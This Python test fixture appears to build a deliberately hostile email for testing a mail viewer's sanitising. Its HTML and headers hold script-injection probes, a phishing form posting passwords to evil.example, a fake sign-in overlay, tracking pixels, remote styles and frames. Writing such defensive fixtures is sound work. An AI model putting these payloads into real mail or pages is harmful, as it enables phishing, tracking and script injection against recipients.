"""A mail that tries everything a page can do to whoever looks at it."""

from tests.pictures import a_picture

PICTURE = a_picture("PNG", size=(120, 60))
HOSTILE_HTML = """
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><title>Bank</title>
<style>body{position:fixed;font-size:900px} @import url(https://evil.example/x.css)</style>
<link rel="stylesheet" href="https://evil.example/y.css"><script>alert(1)</script></head>
<body onload="alert(1)" background="https://evil.example/bg.png">
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">Sign in again</div>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<p><font size="7">Huge</font> <span style="font-size:4000px">Huger</span></p>
<table width="90000"><tr><td width="90000">wide</td></tr></table>
<img src="https://evil.example/pixel.gif"><img src="//evil.example/2.gif"><img src="http://evil.example/3.gif">
<img src="cid:logo"><img src="cid:none">
<img src="x" onerror="alert(1)"><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>
<a href="javascript:alert(1)">not a link</a> <a href="https://shop.example/order" target="_top">a link</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<blockquote style="background:url(https://evil.example/q.png);border:none">indented</blockquote>
</body></html>
"""


def hostile_mail() -> bytes:
    """With a text of its own, a picture of its own, and a quote."""
    from email.message import EmailMessage

    mail = EmailMessage()
    mail["From"] = '"<script>alert(1)</script> Dana" <dana@customer.example>'
    mail["To"] = "desk@shop.example"
    mail["Cc"] = ", ".join(f"someone.with.a.long.name{n}@customer.example" for n in range(30))
    mail["Subject"] = "</title><script>alert(1)</script> Broken mug " + "x" * 200
    mail["Date"] = "Mon, 23 Nov 2026 12:00:00 +0100"
    mail["Message-ID"] = "<1@customer.example>"
    mail.set_content(
        "</pre><script>alert(1)</script>\nThe mug is broken.\n" + "W" * 2000 + "\n\n"
        "On Mon, 23 Nov 2026 at 10:00, Desk <desk@shop.example> wrote:\n> Which mug is it?\n"
    )
    mail.add_alternative(HOSTILE_HTML, subtype="html")
    parts = mail.get_payload()
    assert isinstance(parts, list)
    html = parts[1]
    assert isinstance(html, EmailMessage)
    html.add_related(PICTURE, "image", "png", cid="<logo>", filename="logo.png", disposition="inline")
    return bytes(mail)
